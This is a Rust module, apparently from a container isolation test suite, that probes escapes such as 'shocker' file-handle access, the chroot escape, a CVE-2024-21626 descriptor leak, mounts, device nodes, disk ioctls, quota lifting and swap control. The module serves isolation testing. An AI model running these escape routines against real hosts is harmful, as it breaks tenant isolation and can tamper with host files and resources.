//! Attacks through files and filesystems: writes to host-owned files, fresh mounts, device
//! nodes, file handles ("shocker"), the host disk's ioctls, quotas and swap, escapes from the
//! root and the working directory.

use super::{
    arg, check, check_int, cstring, ename, io_ename, number, Allowed, Info, Outcome, Refused,
};
use nix::errno::Errno;
use nix::mount::{mount as nix_mount, umount2, MntFlags, MsFlags};
use nix::sys::stat::{makedev, mknod as nix_mknod, Mode, SFlag};
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};

/// The shared objects this process has mapped (what the case copies into a VE with it).
pub fn libs() -> Outcome {
    let maps = fs::read_to_string("/proc/self/maps").map_err(|e| format!("maps: {e}"))?;
    let mut found = BTreeSet::new();
    for line in maps.lines() {
        if let Some(path) = line.split_whitespace().nth(5) {
            if path.starts_with('/') && path.contains(".so") {
                found.insert(path.to_string());
            }
        }
    }
    Ok(Info(found.into_iter().collect::<Vec<_>>().join("\n")))
}

fn open_write(path: &str) -> std::io::Result<File> {
    OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(false)
        .mode(0o644)
        .open(path)
}

/// write PATH DATA [--offset N] [--hex]: open PATH (which must exist: nothing is created)
/// for writing and write DATA (hex-encoded bytes with --hex) at offset N (default 0).
pub fn write(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let text = arg(args, 1, "DATA")?;
    let (mut offset, mut hex) = (0u64, false);
    let mut i = 2;
    while i < args.len() {
        match args[i].as_str() {
            "--offset" => {
                offset = number(&arg(args, i + 1, "N")?)?;
                i += 1;
            }
            "--hex" => hex = true,
            other => return Err(format!("write: unknown option {other}")),
        }
        i += 1;
    }
    let data: Vec<u8> = if hex {
        (0..text.len() / 2)
            .map(|i| u8::from_str_radix(&text[2 * i..2 * i + 2], 16))
            .collect::<Result<_, _>>()
            .map_err(|e| format!("bad hex {text}: {e}"))?
    } else {
        text.clone().into_bytes()
    };
    let mut file = match OpenOptions::new().write(true).open(&path) {
        Ok(f) => f,
        Err(e) => return Ok(Refused(format!("open {path}: {}", io_ename(&e)))),
    };
    if offset > 0 {
        use std::io::Seek;
        file.seek(std::io::SeekFrom::Start(offset))
            .map_err(|e| format!("seek {path}: {e}"))?;
    }
    match file.write_all(&data) {
        Ok(()) => Ok(Allowed(format!("wrote {text:?} to {path}"))),
        Err(e) => Ok(Refused(format!("write {path}: {}", io_ename(&e)))),
    }
}

/// read PATH: open PATH for reading (non-blocking) and read from it.
pub fn read(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let mut file = match OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(&path)
    {
        Ok(f) => f,
        Err(e) => return Ok(Refused(format!("open {path}: {}", io_ename(&e)))),
    };
    let mut buf = [0u8; 4096];
    match file.read(&mut buf) {
        Ok(n) => Ok(Allowed(format!("opened {path}, read {n} bytes"))),
        Err(e) => Ok(Allowed(format!("opened {path} (read: {})", io_ename(&e)))),
    }
}

/// mount FSTYPE TARGET [--data D] [--source S] [--bind] [--keep] [--write REL DATA]:
/// mounts a new FSTYPE (or binds S) at TARGET, optionally writes TARGET/REL through it, and
/// unmounts it again unless --keep.
pub fn mount(args: &[String]) -> Outcome {
    let fstype = arg(args, 0, "FSTYPE")?;
    let target = arg(args, 1, "TARGET")?;
    let (mut data, mut source, mut bind, mut keep, mut write) = (None, None, false, false, None);
    let mut i = 2;
    while i < args.len() {
        match args[i].as_str() {
            "--data" => {
                data = Some(arg(args, i + 1, "--data D")?);
                i += 1;
            }
            "--source" => {
                source = Some(arg(args, i + 1, "--source S")?);
                i += 1;
            }
            "--bind" => bind = true,
            "--keep" => keep = true,
            "--write" => {
                write = Some((arg(args, i + 1, "REL")?, arg(args, i + 2, "DATA")?));
                i += 2;
            }
            other => return Err(format!("mount: unknown option {other}")),
        }
        i += 1;
    }
    fs::create_dir_all(&target).map_err(|e| format!("mkdir {target}: {e}"))?;
    let flags = if bind {
        MsFlags::MS_BIND
    } else {
        MsFlags::empty()
    };
    let source = source.unwrap_or_else(|| fstype.clone());
    let fs_arg = (!bind).then_some(fstype.as_str());
    if let Err(e) = nix_mount(
        Some(source.as_str()),
        target.as_str(),
        fs_arg,
        flags,
        data.as_deref(),
    ) {
        return Ok(Refused(format!("mount {fstype} on {target}: {}", ename(e))));
    }
    let verdict = match write {
        None => Allowed(format!("mounted {fstype} on {target}")),
        Some((rel, text)) => {
            let path = format!("{target}/{rel}");
            match open_write(&path).and_then(|mut f| f.write_all(text.as_bytes())) {
                Ok(()) => Allowed(format!(
                    "mounted {fstype} on {target} and wrote {text:?} to {path}"
                )),
                Err(e) => Refused(format!(
                    "mounted {fstype} on {target}, but write {path}: {}",
                    io_ename(&e)
                )),
            }
        }
    };
    if !keep {
        let _ = umount2(target.as_str(), MntFlags::MNT_DETACH);
    }
    Ok(verdict)
}

/// mknod PATH b|c MAJOR MINOR: makes a device node and, if that works, opens it.
pub fn mknod(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let kind = match arg(args, 1, "b|c")?.as_str() {
        "b" => SFlag::S_IFBLK,
        "c" => SFlag::S_IFCHR,
        other => return Err(format!("bad node kind {other}")),
    };
    let major: u64 = number(&arg(args, 2, "MAJOR")?)?;
    let minor: u64 = number(&arg(args, 3, "MINOR")?)?;
    let _ = fs::remove_file(&path);
    if let Err(e) = nix_mknod(
        path.as_str(),
        kind,
        Mode::from_bits_truncate(0o600),
        makedev(major, minor),
    ) {
        return Ok(Refused(format!("mknod {path}: {}", ename(e))));
    }
    let open = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(&path);
    Ok(Allowed(format!(
        "made {path} ({major}:{minor}); opening it: {}",
        match open {
            Ok(_) => "ok".to_string(),
            Err(e) => io_ename(&e),
        }
    )))
}

/// struct file_handle with room for any handle the kernel makes.
#[repr(C)]
struct FileHandle {
    bytes: u32,
    kind: i32,
    data: [u8; 128],
}

/// handle PATH (host side): prints `TYPE HEX`, PATH's file handle.
pub fn handle(args: &[String]) -> Outcome {
    let path = cstring(&arg(args, 0, "PATH")?)?;
    let mut fh = FileHandle {
        bytes: 128,
        kind: 0,
        data: [0; 128],
    };
    let mut mount_id: libc::c_int = 0;
    // SAFETY: name_to_handle_at writes at most fh.bytes bytes after the header into fh and
    // one int into mount_id; both live across the call.
    check(unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &mut fh as *mut FileHandle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    })
    .map_err(|e| format!("name_to_handle_at: {}", ename(e)))?;
    let hex: String = fh.data[..fh.bytes as usize]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    Ok(Info(format!("{} {hex}", fh.kind)))
}

fn open_dir(path: &str) -> Result<OwnedFd, String> {
    File::open(path)
        .map(OwnedFd::from)
        .map_err(|e| format!("open {path}: {e}"))
}

/// open_by_handle_at(MOUNT, TYPE/HEX, flags).
fn open_handle(
    mount: &str,
    kind: &str,
    hex: &str,
    flags: i32,
) -> Result<Result<OwnedFd, Errno>, String> {
    let mount_fd = open_dir(mount)?;
    let kind: i32 = number(kind)?;
    if hex.len() & 1 == 1 || hex.len() > 256 {
        return Err(format!("bad handle {hex}"));
    }
    let mut fh = FileHandle {
        bytes: (hex.len() / 2) as u32,
        kind,
        data: [0; 128],
    };
    for (i, slot) in fh.data.iter_mut().take(hex.len() / 2).enumerate() {
        *slot = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).map_err(|e| e.to_string())?;
    }
    // SAFETY: open_by_handle_at reads the handle header and fh.bytes bytes of it.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount_fd.as_raw_fd(),
            &mut fh as *mut FileHandle,
            flags,
        )
    };
    // SAFETY: On success the call returned a new descriptor that nothing else owns.
    Ok(check(ret).map(|fd| unsafe { OwnedFd::from_raw_fd(fd as RawFd) }))
}

fn openat(dir: &OwnedFd, name: &str, flags: i32, mode: u32) -> Result<OwnedFd, Errno> {
    let name = std::ffi::CString::new(name).map_err(|_| Errno::EINVAL)?;
    // SAFETY: openat reads the NUL-terminated name, which lives across the call.
    let fd = check_int(unsafe { libc::openat(dir.as_raw_fd(), name.as_ptr(), flags, mode) })?;
    // SAFETY: A new descriptor that nothing else owns.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn write_fd(fd: OwnedFd, data: &str) -> std::io::Result<()> {
    File::from(fd).write_all(data.as_bytes())
}

/// by-handle MOUNT TYPE HEX ACTION...: decodes a handle made on the host (`handle`) through
/// MOUNT (a directory of the VE on the same filesystem), then ACTION on what it reached:
/// `list` | `write-at NAME DATA` | `create NAME` | `bind TARGET NAME` | `link NAME NEWPATH` |
/// `swapoff NAME`. The handle is of a directory (the only kind 6.12 decodes without
/// CAP_DAC_READ_SEARCH in the initial user namespace).
pub fn by_handle(args: &[String]) -> Outcome {
    let mount = arg(args, 0, "MOUNT")?;
    let kind = arg(args, 1, "TYPE")?;
    let hex = arg(args, 2, "HEX")?;
    let action = arg(args, 3, "ACTION")?;
    let dir = match open_handle(&mount, &kind, &hex, libc::O_RDONLY | libc::O_DIRECTORY)? {
        Ok(fd) => fd,
        Err(e) => return Ok(Refused(format!("open_by_handle_at: {}", ename(e)))),
    };
    let at = format!("/proc/self/fd/{}", dir.as_raw_fd());
    let target = fs::read_link(&at).map_or_else(|e| format!("({e})"), |p| p.display().to_string());
    match action.as_str() {
        "list" => match fs::read_dir(&at) {
            Ok(entries) => {
                let names: Vec<String> = entries
                    .filter_map(|e| e.ok())
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .take(8)
                    .collect();
                Ok(Allowed(format!("opened {target}: {}", names.join(" "))))
            }
            Err(e) => Ok(Refused(format!("opened {target}, list: {}", io_ename(&e)))),
        },
        "write-at" => {
            let name = arg(args, 4, "NAME")?;
            let data = arg(args, 5, "DATA")?;
            match openat(&dir, &name, libc::O_WRONLY, 0) {
                Ok(fd) => match write_fd(fd, &data) {
                    Ok(()) => Ok(Allowed(format!("wrote {data:?} to {target}/{name}"))),
                    Err(e) => Ok(Refused(format!("write {target}/{name}: {}", io_ename(&e)))),
                },
                Err(e) => Ok(Refused(format!("open {target}/{name}: {}", ename(e)))),
            }
        }
        "create" => {
            let name = arg(args, 4, "NAME")?;
            match openat(&dir, &name, libc::O_WRONLY | libc::O_CREAT, 0o644) {
                Ok(fd) => {
                    let _ = write_fd(fd, "written from a VE\n");
                    Ok(Allowed(format!("created {target}/{name}")))
                }
                Err(e) => Ok(Refused(format!("create {target}/{name}: {}", ename(e)))),
            }
        }
        "bind" => {
            let bind_at = arg(args, 4, "TARGET")?;
            let name = arg(args, 5, "NAME")?;
            fs::create_dir_all(&bind_at).map_err(|e| format!("mkdir {bind_at}: {e}"))?;
            if let Err(e) = nix_mount(
                Some(at.as_str()),
                bind_at.as_str(),
                None::<&str>,
                MsFlags::MS_BIND | MsFlags::MS_REC,
                None::<&str>,
            ) {
                return Ok(Refused(format!("bind {target} on {bind_at}: {}", ename(e))));
            }
            let path = format!("{bind_at}/{name}");
            let made = open_write(&path).and_then(|mut f| f.write_all(b"written from a VE\n"));
            let _ = umount2(bind_at.as_str(), MntFlags::MNT_DETACH);
            match made {
                Ok(()) => Ok(Allowed(format!(
                    "bound {target} on {bind_at} and created {name} in it"
                ))),
                Err(e) => Ok(Allowed(format!(
                    "bound {target} on {bind_at} (create {name}: {})",
                    io_ename(&e)
                ))),
            }
        }
        "link" => {
            let name = arg(args, 4, "NAME")?;
            let new = cstring(&arg(args, 5, "NEWPATH")?)?;
            let old = cstring(&name)?;
            let _ = fs::remove_file(arg(args, 5, "NEWPATH")?);
            // SAFETY: linkat reads two NUL-terminated paths that live across the call.
            match check_int(unsafe {
                libc::linkat(
                    dir.as_raw_fd(),
                    old.as_ptr(),
                    libc::AT_FDCWD,
                    new.as_ptr(),
                    0,
                )
            }) {
                Ok(_) => Ok(Allowed(format!("hard-linked {target}/{name} into the VE"))),
                Err(e) => Ok(Refused(format!("link {target}/{name}: {}", ename(e)))),
            }
        }
        "swapoff" => {
            let name = arg(args, 4, "NAME")?;
            let path = cstring(&format!("{at}/{name}"))?;
            // SAFETY: swapoff reads a NUL-terminated path.
            match check(unsafe { libc::syscall(libc::SYS_swapoff, path.as_ptr()) }) {
                Ok(_) => Ok(Allowed(format!("swapped off {target}/{name}"))),
                Err(Errno::EPERM) => Ok(Refused(format!("swapoff {target}/{name}: EPERM"))),
                Err(e) => Ok(Allowed(format!(
                    "reached {target}/{name}, past swapoff's capability check: {}",
                    ename(e)
                ))),
            }
        }
        other => Err(format!("by-handle: unknown action {other}")),
    }
}

const FIFREEZE: libc::c_ulong = 0xc004_5877;
const FITHAW: libc::c_ulong = 0xc004_5878;
const EXT4_IOC_SHUTDOWN: libc::c_ulong = 0x8004_587d;
const FS_IOC_FSGETXATTR: libc::c_ulong = 0x801c_581f;
const FS_IOC_FSSETXATTR: libc::c_ulong = 0x401c_5820;

/// fsfreeze PATH: FIFREEZE on PATH's filesystem (thawed again at once if it worked).
pub fn fsfreeze(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let file = File::open(&path).map_err(|e| format!("open {path}: {e}"))?;
    // SAFETY: FIFREEZE takes no argument memory.
    match check_int(unsafe { libc::ioctl(file.as_raw_fd(), FIFREEZE, 0) }) {
        Err(e) => Ok(Refused(format!("FIFREEZE {path}: {}", ename(e)))),
        Ok(_) => {
            // SAFETY: As above.
            let thaw = check_int(unsafe { libc::ioctl(file.as_raw_fd(), FITHAW, 0) });
            Ok(Allowed(format!(
                "froze the filesystem of {path} (thaw: {})",
                thaw.map_or_else(ename, |_| "ok".into())
            )))
        }
    }
}

/// ext4-shutdown PATH: EXT4_IOC_SHUTDOWN with an invalid flag, so that passing the
/// capability check shows as EINVAL and nothing is shut down.
pub fn ext4_shutdown(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let file = File::open(&path).map_err(|e| format!("open {path}: {e}"))?;
    let flags: u32 = 0xff;
    // SAFETY: The ioctl reads one u32, which lives across the call.
    match check_int(unsafe { libc::ioctl(file.as_raw_fd(), EXT4_IOC_SHUTDOWN, &flags) }) {
        Err(Errno::EPERM) => Ok(Refused("EXT4_IOC_SHUTDOWN: EPERM".into())),
        Err(Errno::EINVAL) => Ok(Allowed(
            "EXT4_IOC_SHUTDOWN passed its capability check (EINVAL for the invalid flag)".into(),
        )),
        Ok(_) => Ok(Allowed("EXT4_IOC_SHUTDOWN succeeded".into())),
        Err(e) => Err(format!(
            "EXT4_IOC_SHUTDOWN on {path}: unexpected {}",
            ename(e)
        )),
    }
}

#[repr(C)]
#[derive(Default)]
struct FsXattr {
    xflags: u32,
    extsize: u32,
    nextents: u32,
    projid: u32,
    cowextsize: u32,
    pad: [u8; 8],
}

fn get_xattr(file: &File) -> Result<FsXattr, Errno> {
    let mut attr = FsXattr::default();
    // SAFETY: FS_IOC_FSGETXATTR fills one struct fsxattr, which lives across the call.
    check_int(unsafe { libc::ioctl(file.as_raw_fd(), FS_IOC_FSGETXATTR, &mut attr) })?;
    Ok(attr)
}

/// projid PATH (host side): PATH's project id.
pub fn projid(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let file = File::open(&path).map_err(|e| format!("open {path}: {e}"))?;
    let attr = get_xattr(&file).map_err(|e| format!("FS_IOC_FSGETXATTR: {}", ename(e)))?;
    Ok(Info(attr.projid.to_string()))
}

/// set-projid PATH ID: moves PATH to project ID (out of the VE's disk quota).
pub fn set_projid(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let id: u32 = number(&arg(args, 1, "ID")?)?;
    let file = File::open(&path).map_err(|e| format!("open {path}: {e}"))?;
    let mut attr = get_xattr(&file).map_err(|e| format!("FS_IOC_FSGETXATTR: {}", ename(e)))?;
    let before = attr.projid;
    attr.projid = id;
    // SAFETY: FS_IOC_FSSETXATTR reads one struct fsxattr.
    match check_int(unsafe { libc::ioctl(file.as_raw_fd(), FS_IOC_FSSETXATTR, &attr) }) {
        Err(e) => Ok(Refused(format!(
            "FS_IOC_FSSETXATTR project {id}: {}",
            ename(e)
        ))),
        Ok(_) => {
            let now = get_xattr(&file).map_or(u32::MAX, |a| a.projid);
            if now == before && before != id {
                Ok(Refused(format!(
                    "accepted, but the project stayed {before}"
                )))
            } else {
                Ok(Allowed(format!(
                    "moved {path} from project {before} to {now}"
                )))
            }
        }
    }
}

/// struct if_dqblk.
#[repr(C)]
#[derive(Default)]
struct DqBlk {
    bhardlimit: u64,
    bsoftlimit: u64,
    curspace: u64,
    ihardlimit: u64,
    isoftlimit: u64,
    curinodes: u64,
    btime: u64,
    itime: u64,
    valid: u32,
}

const PRJQUOTA: u32 = 2;
const Q_GETQUOTA: u32 = 0x80_0007;
const Q_SETQUOTA: u32 = 0x80_0008;
const QIF_LIMITS: u32 = 1 | 4;

fn qcmd(cmd: u32, kind: u32) -> u32 {
    (cmd << 8) | (kind & 0xff)
}

fn quotactl_fd(path: &str, cmd: u32, id: u32, dq: &mut DqBlk) -> Result<Result<(), Errno>, String> {
    let file = File::open(path).map_err(|e| format!("open {path}: {e}"))?;
    // SAFETY: quotactl_fd reads or fills one struct if_dqblk, which lives across the call.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_quotactl_fd,
            file.as_raw_fd(),
            qcmd(cmd, PRJQUOTA),
            id,
            dq as *mut DqBlk,
        )
    };
    Ok(check(ret).map(|_| ()))
}

/// quota-get PATH ID (host side): project ID's limits on PATH's filesystem.
pub fn quota_get(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let id: u32 = number(&arg(args, 1, "ID")?)?;
    let mut dq = DqBlk::default();
    quotactl_fd(&path, Q_GETQUOTA, id, &mut dq)?
        .map_err(|e| format!("Q_GETQUOTA: {}", ename(e)))?;
    Ok(Info(format!(
        "bhard {} bsoft {} ihard {} isoft {}",
        dq.bhardlimit, dq.bsoftlimit, dq.ihardlimit, dq.isoftlimit
    )))
}

/// quota-set PATH ID: lifts project ID's limits (all zero: unlimited) on PATH's filesystem.
pub fn quota_set(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let id: u32 = number(&arg(args, 1, "ID")?)?;
    let mut dq = DqBlk {
        valid: QIF_LIMITS,
        ..DqBlk::default()
    };
    match quotactl_fd(&path, Q_SETQUOTA, id, &mut dq)? {
        Ok(()) => Ok(Allowed(format!("lifted the limits of project {id}"))),
        Err(e) => Ok(Refused(format!("Q_SETQUOTA project {id}: {}", ename(e)))),
    }
}

/// swapon PATH: anything but EPERM means the capability check passed.
pub fn swapon(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let c = cstring(&path)?;
    // SAFETY: swapon reads a NUL-terminated path.
    match check(unsafe { libc::syscall(libc::SYS_swapon, c.as_ptr(), 0) }) {
        Ok(_) => Ok(Allowed(format!("swapon {path}: the host swaps to it"))),
        Err(Errno::EPERM) => Ok(Refused(format!("swapon {path}: EPERM"))),
        Err(e) => Ok(Allowed(format!(
            "swapon {path} passed the capability check: {}",
            ename(e)
        ))),
    }
}

/// swapoff PATH: as swapon.
pub fn swapoff(args: &[String]) -> Outcome {
    let path = arg(args, 0, "PATH")?;
    let c = cstring(&path)?;
    // SAFETY: swapoff reads a NUL-terminated path.
    match check(unsafe { libc::syscall(libc::SYS_swapoff, c.as_ptr()) }) {
        Ok(_) => Ok(Allowed(format!("swapoff {path}"))),
        Err(Errno::EPERM) => Ok(Refused(format!("swapoff {path}: EPERM"))),
        Err(e) => Ok(Allowed(format!(
            "swapoff {path} passed the capability check: {}",
            ename(e)
        ))),
    }
}

fn dev_ino(meta: &fs::Metadata) -> (u64, u64) {
    (meta.dev(), meta.ino())
}

/// The directory `..` leads to from `dir`, 64 times over: the top of whatever tree `dir` is
/// in, as far as this process can walk (its root stops the walk).
fn walk_up(dir: OwnedFd) -> Result<OwnedFd, Errno> {
    let mut here = dir;
    for _ in 0..64 {
        here = openat(&here, "..", libc::O_RDONLY | libc::O_DIRECTORY, 0)?;
    }
    Ok(here)
}

fn fd_meta(fd: &OwnedFd) -> std::io::Result<fs::Metadata> {
    fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd()))
}

/// chroot-escape NAME: the classic chroot escape (chroot into a subdirectory while the
/// working directory stays outside, walk `..`, chroot there). Creates NAME at whatever `/`
/// it ends at; allowed if that is not the VE's root.
pub fn chroot_escape(args: &[String]) -> Outcome {
    let name = arg(args, 0, "NAME")?;
    let root = dev_ino(&fs::metadata("/").map_err(|e| e.to_string())?);
    let jail = "/tmp/.iso-chroot-jail";
    let _ = fs::create_dir_all(jail);
    let jail_c = cstring(jail)?;
    std::env::set_current_dir("/").map_err(|e| e.to_string())?;
    // SAFETY: chroot reads a NUL-terminated path.
    if let Err(e) = check_int(unsafe { libc::chroot(jail_c.as_ptr()) }) {
        return Ok(Refused(format!("chroot: {}", ename(e))));
    }
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    let dot = cstring(".")?;
    // SAFETY: As above.
    check_int(unsafe { libc::chroot(dot.as_ptr()) }).map_err(|e| format!("chroot .: {e}"))?;
    let now = dev_ino(&fs::metadata("/").map_err(|e| e.to_string())?);
    let made = open_write(&format!("/{name}")).map(|_| ());
    if now != root {
        Ok(Allowed(format!(
            "escaped: / is now {now:?}, not the VE's root {root:?} (create /{name}: {made:?})"
        )))
    } else {
        Ok(Refused(format!(
            "the walk stopped at the VE's root (created /{name}: {})",
            made.map_or_else(|e| io_ename(&e), |_| "yes".into())
        )))
    }
}

/// cwd-check NAME: the CVE-2024-21626 checks, run as the command `vzctl exec` starts: its
/// working directory and every descriptor above stderr must be inside the VE. A directory
/// outside (its `..` walk ends at another root) gets NAME created at that top.
pub fn cwd_check(args: &[String]) -> Outcome {
    let name = arg(args, 0, "NAME")?;
    let root = dev_ino(&fs::metadata("/").map_err(|e| e.to_string())?);
    let mut leaks = Vec::new();
    let cwd_text =
        std::env::current_dir().map_or_else(|e| format!("({e})"), |p| p.display().to_string());
    // The descriptors the command was started with (read_dir's own one points at this
    // process's fd directory), before this opens any.
    let mut inherited = Vec::new();
    for entry in fs::read_dir("/proc/self/fd").map_err(|e| e.to_string())? {
        let entry = entry.map_err(|e| e.to_string())?;
        let fd: i32 = entry.file_name().to_string_lossy().parse().unwrap_or(-1);
        if fd <= 2 {
            continue;
        }
        if let Ok(link) = fs::read_link(entry.path()) {
            let link = link.display().to_string();
            if !(link.starts_with("/proc/") && link.ends_with("/fd")) {
                inherited.push((fd, link));
            }
        }
    }
    let mut dirs = vec![("cwd".to_string(), open_dir(".")?)];
    for (fd, link) in inherited {
        leaks.push(format!("fd {fd} -> {link}"));
        if let Ok(dir) = File::open(format!("/proc/self/fd/{fd}")) {
            if dir.metadata().is_ok_and(|m| m.is_dir()) {
                dirs.push((format!("fd {fd}"), OwnedFd::from(dir)));
            }
        }
    }
    for (what, dir) in dirs {
        let top = walk_up(dir).map_err(|e| format!("walk up from {what}: {}", ename(e)))?;
        let meta = fd_meta(&top).map_err(|e| e.to_string())?;
        if dev_ino(&meta) != root {
            let made = openat(&top, &name, libc::O_WRONLY | libc::O_CREAT, 0o644);
            leaks.push(format!(
                "{what} leads out of the VE's root (created {name} there: {})",
                made.map_or_else(ename, |_| "yes".into())
            ));
        }
    }
    if leaks.is_empty() {
        Ok(Refused(format!(
            "cwd {cwd_text} inside the VE, no descriptor above stderr"
        )))
    } else {
        Ok(Allowed(format!("cwd {cwd_text}: {}", leaks.join("; "))))
    }
}
